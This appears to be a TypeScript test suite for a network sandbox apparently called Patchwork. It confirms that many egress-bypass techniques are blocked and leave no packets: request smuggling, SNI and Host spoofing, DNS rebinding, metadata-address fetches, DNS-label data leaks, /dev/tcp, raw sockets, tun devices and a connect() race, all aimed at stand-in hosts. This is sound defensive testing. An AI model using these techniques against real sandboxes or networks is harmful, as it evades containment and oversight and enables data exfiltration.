/** Denied hosts, by many ways: nothing reaches them, as the capture outside tells; each way works without Patchwork. */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { whyNoGuard } from '../support/guarded.ts';
import { runBatch } from './support/batch.ts';
import { type Bed, createBed, type Outcome, whyNoBed } from './support/bed.ts';
import { BANNER_PORT, DENIED, DENIED6, LENIENT_PORT, METADATA, PRIVATE, UDP_PORT } from './support/world.ts';

const skip = (await whyNoGuard()) ?? whyNoBed() ?? false;
const python = (script: string): string => `/usr/bin/python3 - <<'END'\n${script}\nEND`;
const PLAIN = "import socket, ssl\ndef http(s, host):\n  s.sendall(b'GET / HTTP/1.1\\r\\nHost: ' + host + b'\\r\\nConnection: close\\r\\n\\r\\n'); print(s.recv(4096))\n";
/** Looks the permitted name up first, so that its address is known. */
const KNOWN = `${PLAIN}A = socket.getaddrinfo('allowed.test', 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]\n`;

/** What is said to the server that takes too much; `harmless` is what it may answer. */
const lenient = (bytes: string, harmless = '', more = ''): string => python(`import time\n${KNOWN}s = socket.create_connection((A, ${LENIENT_PORT})); s.settimeout(2)\ns.sendall(${bytes}); ${more}\nd = b''\ntry:\n  for p in iter(lambda: s.recv(4096), b''): d += p\nexcept OSError: pass\nprint(d.replace(b'${harmless}', b''))`);

/** A server of the session's own, and a socket whose datagrams for it leave by a device. */
const DEVICE = "import socket, struct\nown = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); own.bind(('127.0.0.1', 0)); own.settimeout(1); at = own.getsockname(); device = socket.if_nametoindex('pw0'); s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n";
const HERE = "\ntry: print('stays here', own.recv(99))\nexcept OSError: print('ECHO')";

/** What comes out where it works. */
const REACHED = /SERVED|BANNER|GOT|ECHO|ANSWERED/;

/** `reason`: what the denial says, on standard error or in the answer. Rows without one are told by name at most. */
const WAYS: readonly (readonly [id: string, script: string, reason?: RegExp])[] = [
  ['name-curl', 'curl -sS -m 5 https://denied.test/', /denied network_request `denied\.test`/],
  ['name-curl-http', 'curl -sS -m 5 http://denied.test/', /denied network_request `denied\.test`/],
  ['name-wget', 'wget -T 5 -t 1 -q -O - http://denied.test/', /denied/],
  ['name-git', 'git ls-remote https://denied.test/repo.git && echo SERVED', /denied network_request `denied\.test`/],
  ['name-node', 'node -e \'fetch("https://denied.test/").then((r) => r.text()).then(console.log, (e) => console.log(e.message))\'', /denied network_request `denied\.test:443`/],
  ['name-python', python('import urllib.request\nprint(urllib.request.urlopen("https://denied.test/", timeout=5).read())'), /denied network_request `denied\.test`/],
  ['name-chromium', 'timeout 20 chromium --headless --no-sandbox --disable-gpu --disable-background-networking --no-first-run --ignore-certificate-errors --user-data-dir=$PWD/profile --dump-dom https://denied.test/'],
  ['name-longer', 'curl -sS -m 5 http://xallowed.test/ http://allowed.test.denied.test/ http://denied.test/', /denied/],
  ['direct-curl', `curl -sS -m 5 http://${DENIED}/`, /no permitted name was looked up for this address/],
  ['direct-permitted', 'curl -sS -m 5 -k https://203.0.113.11/', /no permitted name was looked up for this address/],
  ['direct-six', `curl -sS -m 5 'http://[${DENIED6}]/'`, /denied network_request/],
  ['direct-number', 'curl -sS -m 5 http://3405803842/', /203\.0\.113\.66/],
  ['direct-bash', `exec 3<>/dev/tcp/${DENIED}/${BANNER_PORT} && head -1 <&3`, /denied network_request `203\.0\.113\.66:2222`/],
  ['direct-env', `env -i /usr/bin/curl -sS -m 5 http://${DENIED}/`, /denied/],
  ['direct-mapped', python(`${PLAIN}s = socket.socket(socket.AF_INET6); s.connect(('::ffff:${DENIED}', 80)); http(s, b'denied.test')`), /denied network_request `203\.0\.113\.66:80`/],
  ['direct-nonblocking', python(`${PLAIN}import select\ns = socket.socket(); s.setblocking(0); s.connect_ex(('${DENIED}', 80)); select.select([], [s], [], 2); s.setblocking(1); http(s, b'denied.test')`), /denied/],
  ['direct-fastopen', python(`import socket\ns = socket.socket(); s.settimeout(3); s.sendto(b'GET / HTTP/1.0\\r\\n\\r\\n', 0x20000000, ('${DENIED}', 80)); print(s.recv(4096))`)],
  ['resolve-option', `curl -sS -m 5 --resolve allowed.test:443:${DENIED} https://allowed.test/`, /denied/],
  ['sni-changed', 'curl -s -m 5 https://allowed.test/ >/dev/null; curl -sS -m 5 --resolve denied.test:443:203.0.113.10 https://denied.test/', /denied network_request `denied\.test:443 \(203\.0\.113\.10\)`[\s\S]*alert access denied/],
  ['sni-shared', 'curl -s -m 5 https://allowed.test/ >/dev/null; curl -sS -m 5 --resolve shared.test:443:203.0.113.10 https://shared.test/', /denied network_request `shared\.test:443/],
  ['sni-cut', python(`${KNOWN}b, o = ssl.MemoryBIO(), ssl.MemoryBIO()\nc = ssl.create_default_context(); t = c.wrap_bio(b, o, server_hostname='denied.test')\ntry: t.do_handshake()\nexcept ssl.SSLWantReadError: pass\nh = o.read(); s = socket.create_connection((A, 443)); s.settimeout(3)\nimport time\nhead, body = h[:3], h[5:]\nfor i in range(0, len(body), 90):\n  p = body[i:i+90]; s.sendall(head + len(p).to_bytes(2, 'big') + p); time.sleep(0.01)\nr = s.recv(5)\nprint('SERVED' if r[:1] == b'\\x16' else r)`), /denied network_request `denied\.test:443/],
  ['sni-garbled', python(`${KNOWN}c = ssl.create_default_context(); c.check_hostname = False; b, o = ssl.MemoryBIO(), ssl.MemoryBIO(); t = c.wrap_bio(b, o, server_hostname='xllowed.test')\ntry: t.do_handshake()\nexcept ssl.SSLWantReadError: pass\nh = o.read().replace(b'xllowed.test', b'shared.test\\x2f'); s = socket.create_connection((A, 443)); s.settimeout(3); s.sendall(h); r = s.recv(5)\nprint('SERVED' if r[:1] in (b'\\x16', b'-') else r)`)],
  ['host-changed', 'curl -sS -m 5 -H "Host: denied.test" http://allowed.test/', /rule: network\.deny: \*/],
  ['host-json', 'curl -sS -m 5 -H "Host: denied.test" -H "Accept: application/json" http://allowed.test/', /^\{"error":"denied by patchwork","host":"denied\.test","reason":".*","rule":"network\.deny: \*"/],
  ['host-kept-alive', python(`${KNOWN}s = socket.create_connection((A, 80)); s.settimeout(3)\ns.sendall(b'GET /1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); \nwhile b' /1 body' not in s.recv(4096): pass\ns.sendall(b'GET /2 HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'); print(s.recv(4096))`), /403 Forbidden/],
  ['host-pipelined', python(`${KNOWN}s = socket.create_connection((A, 80)); s.settimeout(3)\ns.sendall(b'GET /1 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /pipelined HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n')\nd = b''\nwhile True:\n  p = s.recv(4096)\n  if not p: break\n  d += p\nprint(d.replace(b'SERVED http GET allowed.test /1', b''))`), /403 Forbidden/],
  ['host-absolute', python(`${KNOWN}s = socket.create_connection((A, 80)); s.settimeout(3)\ns.sendall(b'GET http://denied.test/ HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n'); print(s.recv(4096))`), /403 Forbidden/],
  ...([['host-empty-line', '\\r\\nGET / HTTP/1.1'], ['host-tab', '\\tGET / HTTP/1.1'], ['host-no-version', 'GET /'], ['host-ice', 'SOURCE / ICE/1.0'], ['host-rtsp', 'DESCRIBE / RTSP/1.0']] as const).map(([id, line]): [string, string, RegExp] => [id, python(`${KNOWN}s = socket.create_connection((A, 80)); s.settimeout(3)\ns.sendall(b'${line}\\r\\nHost: shared.test\\r\\nConnection: close\\r\\n\\r\\n'); print(s.recv(4096))`), /403 Forbidden/]),
  ['sni-behind-alert', python(`${KNOWN}b, o = ssl.MemoryBIO(), ssl.MemoryBIO(); t = ssl.create_default_context().wrap_bio(b, o, server_hostname='shared.test')\ntry: t.do_handshake()\nexcept ssl.SSLWantReadError: pass\ns = socket.create_connection((A, 443)); s.settimeout(3); s.sendall(b'\\x15\\x03\\x01\\0\\x02\\x01\\x5a' + o.read()); r = s.recv(7)\nprint('ECHO' if r[-1:] != b'1' else 'access_denied')`), /access_denied/],
  ['smuggled-length', python(`${KNOWN}s = socket.create_connection((A, 80)); s.settimeout(3)\ns.sendall(b'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n'); print(s.recv(4096))`), /403 Forbidden/],
  ['smuggled-trailer', lenient("b'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\nGET /smuggled HTTP/1.1\\r\\nHost: shared.test\\r\\n\\r\\n'", 'SERVED leniently allowed.test')],
  ['host-in-pauses', lenient("b'G'", '', "\nfor p in (b'ET', b' ', b'/ HTTP/1.1\\r\\n', b'Host: shared.test\\r\\n\\r\\n'): time.sleep(0.5); s.sendall(p)"), /403 Forbidden/],
  ['upgrade-in-pauses', lenient("b'GET'", '', "time.sleep(0.5); s.sendall(b' / HTTP/1.1\\r\\nHost: shared.test\\r\\nUpgrade: h2c\\r\\n\\r\\n'); time.sleep(0.3); s.sendall(b'whatever it is')")],
  ['proxy-line', lenient("b'PROXY TCP4 192.0.2.1 192.0.2.2 1 2\\r\\nGET / HTTP/1.1\\r\\nHost: shared.test\\r\\n\\r\\n'"), /403 Forbidden/],
  ...([['settings', 'HTTP2-Settings', 'h2c'], ['second', 'Upgrade, HTTP2-Settings', 'websocket\\r\\nUpgrade: h2c'], ['tls', 'Upgrade', 'TLS/1.0']] as const).map(([id, connection, protocol]): [string, string] => [`upgrade-${id}`, lenient(`b'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: ${connection}\\r\\nUpgrade: ${protocol}\\r\\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\\r\\n\\r\\n'`, 'SERVED leniently allowed.test', "time.sleep(0.3); s.sendall(b'whatever it is')")]),
  ['hosts-table', `cp /etc/hosts kept; echo '${DENIED} table.wild.test' >> /etc/hosts; curl -sS -m 5 -o /dev/null -w '%{remote_ip}' http://table.wild.test/ | sed s/^${DENIED}/ECHO/; cat kept > /etc/hosts`, /what network rules look hosts up by/],
  ['name-servers', `cp /etc/resolv.conf kept; echo 'nameserver ${DENIED}' >> /etc/resolv.conf; grep -q ${DENIED} /etc/resolv.conf && echo ECHO; cat kept > /etc/resolv.conf`, /what network rules look hosts up by/],
  ['smuggled-host', python(`${KNOWN}s = socket.create_connection((A, 80)); s.settimeout(3)\ns.sendall(b'GET /two HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost: denied.test\\r\\n\\r\\n'); print(s.recv(4096))`)],
  ['rebind', `curl -sS -m 5 http://rebind.test/`, /rebind\.test leads to 10\.66\.0\.5, a private address/],
  ['rebind-mapped', `curl -sS -m 5 http://mapped.test/`, /denied/],
  ['rebind-metadata', 'curl -sS -m 5 http://meta.test/', /a metadata address/],
  ['rebind-option', `curl -sS -m 5 --resolve rebind.test:80:${PRIVATE} http://rebind.test/`, /denied/],
  ['join-group', python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(0, 35, socket.inet_aton('239.11.22.33') + bytes(4)); print('GOT')"), /denied network_request `239\.11\.22\.33`/],
  ['join-source', python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', 5353)); s.setsockopt(0, 46, bytes(8) + b'\\2\\0\\0\\0' + socket.inet_aton('232.11.22.33') + bytes(120) + b'\\2\\0\\0\\0' + socket.inet_aton('9.8.7.6') + bytes(120)); print('GOT')"), /denied network_request `232\.11\.22\.33:5353`/],
  ['join-six', python("import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.setsockopt(41, 20, socket.inet_pton(10, 'ff15::1122:3344') + bytes(4)); print('GOT')"), /denied network_request `(?:\[?)ff15::1122:3344/],
  ['metadata', `curl -sS -m 5 http://${METADATA}/latest/meta-data/`, /denied network_request `169\.254\.169\.254:80`/],
  ['wrong-port', 'curl -sS -m 5 http://port.test/', /denied network_request `port\.test:80 \(203\.0\.113\.14\)`/],
  ['dns-dig', 'dig +time=2 +tries=1 c2VjcmV0.denied.test | grep -q "status: NOERROR\\|203.0.113.53" && dig +short +time=2 denied.test | sed s/^/ANSWERED/', /denied network_request `c2vjcmv0\.denied\.test`/],
  ['dns-server', `dig +time=2 +tries=1 @${DENIED} +short denied.test | sed s/^/ANSWERED/`, /denied/],
  ['dns-tcp', `dig +tcp +time=2 +tries=1 @${DENIED} +short TXT denied.test | sed s/^/ANSWERED/`, /denied/],
  ['dns-labels', python(`import socket\nq = bytes.fromhex('000101000001000000000000') + b'\\x0callowed.test' + b'\\x06denied\\x04test\\x00' + bytes.fromhex('00010001')\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ('203.0.113.53', 53)); r = s.recv(600); print('ANSWERED' if r[3] & 15 == 0 else 'refused')`)],
  ['udp-sendto', python(`import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'leak-sendto', ('${DENIED}', ${UDP_PORT})); print('ECHO')`), /denied/],
  ['udp-sendmsg', python(`import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendmsg([b'leak-sendmsg'], [], 0, ('${DENIED}', ${UDP_PORT})); print('ECHO')`)],
  ['udp-connect', python(`import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('${DENIED}', ${UDP_PORT})); s.send(b'leak-connect'); print('ECHO')`), /denied/],
  ['udp-sorted', python(`import socket, threading, time\nstop = []; now = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM)]; sent = [0]\ndef blast():\n  while not stop:\n    try: sent[0] += now[0].send(b'leak-sorted') > 0\n    except OSError: pass\nt = threading.Thread(target=blast); t.start(); end = time.time() + 3\nwhile time.time() < end:\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); old = now[0]; now[0] = s; s.connect(('${DENIED}', 443)); time.sleep(0); old.close()\nstop.append(1); t.join(); print('ECHO' if sent[0] else 'nothing sent')`), /nothing sent/],
  ['device-tied', python(`${DEVICE}s.setsockopt(1, 25, b'pw0\\0'); s.sendto(b'leak-tied', at)${HERE}`), /Operation not permitted/],
  ['device-unicast', python(`${DEVICE}s.connect(at); s.setsockopt(0, 50, struct.pack('!I', device)); s.send(b'leak-unicast')${HERE}`)],
  ['device-first', python(`${DEVICE}s.setsockopt(0, 50, struct.pack('!I', device)); s.connect(at); s.send(b'leak-unicast')${HERE}`), /Operation not permitted/],
  ['device-beside', python(`${DEVICE}s.sendmsg([b'leak-beside'], [(0, 8, struct.pack('=I8x', device))], 0, at)${HERE}`), /stays here/],
  ['device-beside-connected', python(`${DEVICE}s.connect(at); s.sendmsg([b'leak-beside'], [(0, 8, struct.pack('=I8x', device))])${HERE}`), /stays here/],
  ['device-of-stream', python("import socket\nl = socket.create_server(('127.0.0.1', 0)); s = socket.socket(); s.bind(('203.0.113.1', 0)); s.connect(l.getsockname()); s.setsockopt(1, 25, b'pw0\\0'); s.send(b'leak-stream'); print('ECHO')"), /Operation not permitted/],
  ['udp-mapped', python(`import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'leak-mapped', ('::ffff:${DENIED}', ${UDP_PORT})); print('ECHO')`)],
  ['udp-six', python(`import socket\ns = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.sendto(b'leak-six', ('${DENIED6}', ${UDP_PORT})); print('ECHO')`)],
  ['udp-53-other', python(`import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'leak-no-dns-at-all-but-some-bytes', ('${DENIED}', 53)); s.settimeout(1)\ntry: print(s.recv(100))\nexcept OSError as e: print(e)`)],
  ['tcp-53-other', python(`import socket\ns = socket.create_connection(('${DENIED}', 53), 3); s.sendall(b'\\x00\\x04leak'); s.settimeout(1)\ntry: print('ANSWERED' if s.recv(100) else 'closed')\nexcept OSError as e: print(e)`)],
  ['icmp', `ping -c 1 -W 1 ${DENIED} | grep "1 received" | sed s/^/ANSWERED/`],
  ['raw', python(`import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_RAW, 253); s.sendto(b'leak-raw', ('${DENIED}', 0)); print('ECHO')`)],
  ['tunnel-device', python(`import fcntl, os, socket, struct\nfd = os.open('/dev/net/tun', os.O_RDWR); fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH22x', b'pwt', 0x1001))\nudp = struct.pack('!HHHH', 9, ${UDP_PORT}, 16, 0) + b'leak-tun'; head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton('10.99.0.2'), socket.inet_aton('${DENIED}'))\nt = sum(struct.unpack('!10H', head)); t = (t & 0xffff) + (t >> 16)\nos.write(fd, head[:10] + struct.pack('!H', 0xffff ^ (t & 0xffff) ^ 0) + head[12:] + udp); print('ECHO')`), /a device of the network/],
  ['packet', python(`import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(('pw0', 0x0800)); s.send(b'\\xff' * 12 + b'\\x08\\x00' + b'leak-packet' * 4); print('ECHO')`)],
  ['socket-handed-over', python(`${PLAIN}import os, array\na, b = socket.socketpair()\nif os.fork() == 0:\n  s = socket.socket(); socket.send_fds(a, [b'x'], [s.fileno()]); os._exit(0)\n_, fds, _, _ = socket.recv_fds(b, 1, 1)\ns = socket.socket(fileno=fds[0]); s.connect(('${DENIED}', 80)); http(s, b'denied.test')`), /denied/],
  ['address-race', python(`${PLAIN}import ctypes, threading, struct\nlibc = ctypes.CDLL(None, use_errno=True)\ngood = struct.pack('!HH4s8x', 0, 443, socket.inet_aton(socket.gethostbyname('allowed.test'))); good = struct.pack('=H', 2) + good[2:]\nbad = good[:2] + struct.pack('!H', 80) + socket.inet_aton('${DENIED}') + good[8:]\nbuf = ctypes.create_string_buffer(good, 16); stop = []\ndef flip():\n  while not stop: ctypes.memmove(buf, bad, 16); ctypes.memmove(buf, good, 16)\nt = threading.Thread(target=flip); t.start(); hit = 0\nfor i in range(150):\n  s = socket.socket(); s.settimeout(2)\n  if libc.connect(s.fileno(), buf, 16) == 0 and s.getpeername()[0] == '${DENIED}':\n    try: http(s, b'denied.test'); hit += 1\n    except OSError: pass\n  s.close()\nstop.append(1); t.join(); print(hit)`)],
];

/** Without Patchwork these show nothing that could be told apart, or need more than there is. */
const SHOWS_NOTHING = new Set(['name-chromium', 'name-longer', 'direct-permitted', 'sni-garbled', 'direct-fastopen', 'smuggled-length', 'smuggled-host', 'rebind-mapped', 'tcp-53-other', 'udp-53-other', 'icmp', 'dns-labels', 'dns-dig', 'address-race', 'host-kept-alive', 'rebind-option', 'host-tab', 'sni-behind-alert', 'device-unicast']);

let bed: Bed;
let bare: ReadonlyMap<string, Outcome>;
let governed: ReadonlyMap<string, Outcome>;
let seen: string[];
let packets: string[];
const rows = WAYS.map(([id, script]) => ({ id, script }));
before(async () => {
  if (skip !== false) return;
  bed = await createBed('denied');
  bare = runBatch(bed, 'bare', rows).rows;
  await bed.packets();
  bed.seen();
  governed = runBatch(bed, 'governed', rows).rows;
  packets = await bed.packets();
  seen = bed.seen();
});
after(() => bed?.close());

for (const [id, , reason] of WAYS) {
  test(`denied: ${id}`, { skip: skip === false && id === 'tunnel-device' && !existsSync('/dev/net/tun') ? 'there is no /dev/net/tun' : skip }, () => {
    if (!SHOWS_NOTHING.has(id)) assert.match(bare.get(id)?.out ?? '', REACHED, 'it works without Patchwork');
    assert.doesNotMatch(governed.get(id)?.out ?? '', REACHED);
    if (reason !== undefined) assert.match(governed.get(id)?.out ?? '', reason);
  });
}

test('nothing has left for a denied address, as the capture tells', { skip }, () => {
  assert.ok(packets.length > 20, 'the capture works');
  const to = (address: string): string[] => packets.filter((line) => line.includes(`> ${address}.`) || line.includes(`> ${address}:`));
  for (const address of [DENIED, DENIED6, PRIVATE, METADATA, '203.0.113.11', '127.0.0.1']) assert.deepEqual(to(address), [], address);
});

test('no denied name has been asked for, and no denied host has had a request', { skip }, () => {
  assert.deepEqual(seen.filter((line) => /denied|shared\.test|c2vjcmv0|xallowed|leak|smuggled|pipelined/i.test(line)), []);
  assert.ok(seen.some((line) => line === 'dns A allowed.test'));
});

test('each denial is on record with host, port and rule', { skip }, () => {
  const denied = bed.sandbox.events().filter((event) => event.action === 'network_request' && event.status === 'denied');
  const has = (host: string, port: number | undefined, address?: string): boolean => denied.some(({ target, decision, process }) => target.host === host && target.port === port && (address === undefined || target.address === address) && decision.rule === 'network.deny: *' && process.exe !== undefined);
  assert.ok(has('denied.test', undefined));
  assert.ok(has(DENIED, 80));
  assert.ok(has('denied.test', 443, '203.0.113.10'));
  assert.ok(has('rebind.test', undefined, PRIVATE));
  assert.ok(has('port.test', 80, '203.0.113.14'));
  assert.deepEqual(denied.filter(({ target }) => target.host?.endsWith('corp.invalid')), []);
});

test('patchwork policy explain says the same', { skip }, () => {
  const lines = ['allowed.test', 'denied.test', 'a.wild.test', 'wild.test', DENIED].map((host) => JSON.stringify({ action: 'network_request', host, port: 443, url: `https://${host}/` }));
  const { stdout } = bed.sandbox.run(['policy', 'explain', '--policy', 'policy.yml', '--project', bed.sandbox.project, '--batch'], { input: `${lines.join('\n')}\n` });
  assert.deepEqual(stdout.trim().split('\n').map((line) => (JSON.parse(line) as { effect: string }).effect), ['allow', 'deny', 'allow', 'deny', 'deny']);
  assert.match(bed.sandbox.run(['policy', 'explain', '--policy', 'policy.yml', 'network_request', 'https://denied.test/']).stdout, /DENIED/);
});
